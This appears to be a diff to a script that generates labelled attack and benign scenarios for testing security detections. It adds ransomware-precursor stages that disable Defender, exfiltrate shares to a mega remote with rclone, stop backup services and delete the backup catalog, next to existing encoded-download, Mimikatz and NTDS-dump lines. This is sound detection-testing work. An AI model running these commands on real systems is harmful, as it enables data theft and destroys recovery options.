@@ -48,6 +48,11 @@ scenarios() {
   encoded+='ADAAMAAuADIAMwAvAHUAcABkAGEAdABlAC4AcABzADEAJwApAA=='
   local download='powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass'
   download+=" -EncodedCommand $encoded"
+  # Get-HotFix | Select-Object HotFixID
+  local inventory='powershell.exe -NoProfile -NonInteractive -EncodedCommand '
+  inventory+='RwBlAHQALQBIAG8AdABGAGkAeAAgAHwAIABTAGUAbABlAGMAdAAtAE8AYgBqAGUAYwB0ACAASABvAHQA'
+  inventory+='RgBpAHgASQBEAA=='
+  local health_scripts='C:\Windows\IMECache\HealthScripts'
 
   scenario mimikatz 'Mimikatz reads passwords out of LSASS memory'
   stage critical TA0006 T1003.001 "$workstation_01" "$jsmith" \
@@ -83,9 +88,28 @@ scenarios() {
   stage critical TA0006 T1003.003 "$dc_01" "$admin" \
     'ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ifm" q q'
 
-  scenario software-deployment 'Benign: a managed install runs a script'
+  scenario ransomware-precursor 'The hour before files are encrypted'
+  stage medium TA0007 T1482 "$file_srv_02" "$admin" \
+    'nltest.exe /domain_trusts /all_trusts'
+  stage high TA0005 T1562.001 "$file_srv_02" "$admin" \
+    'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true'
+  stage medium TA0010 T1567.002 "$file_srv_02" "$admin" \
+    'C:\ProgramData\rclone.exe copy D:\Shares mega:acme --transfers 16 --max-age 2y'
+  stage medium TA0040 T1489 "$file_srv_02" "$system" \
+    'cmd.exe /c net stop VeeamBackupSvc /y & net stop MSSQLSERVER /y & net stop vss /y'
+  stage high TA0040 T1490 "$file_srv_02" "$system" \
+    'wbadmin.exe delete catalog -quiet'
+
+  scenario software-deployment 'Benign: SCCM and Intune run scripts'
   stage low TA0002 T1059.001 "$workstation_07" "$system" \
     'powershell.exe -ExecutionPolicy Bypass -File C:\Windows\ccmcache\1a\Install.ps1'
+  stage medium TA0005 T1218.007 "$workstation_07" "$system" \
+    'msiexec.exe /i C:\Windows\ccmcache\2c\viewer-24.2-x64.msi /qn /norestart'
+  stage medium TA0002 T1059.001 "$workstation_07" "$system" \
+    "$inventory"
+  stage medium TA0002 T1059.001 "$workstation_07" "$system" \
+    'powershell.exe -NoProfile -executionPolicy bypass -file '"$health_scripts"\
+'\8f0b6a1e-52c7-4d39-9e84-1b7c3a5d2f60_1\detect.ps1'
 }
 
 names=() descriptions=() counts=() # of every scenario
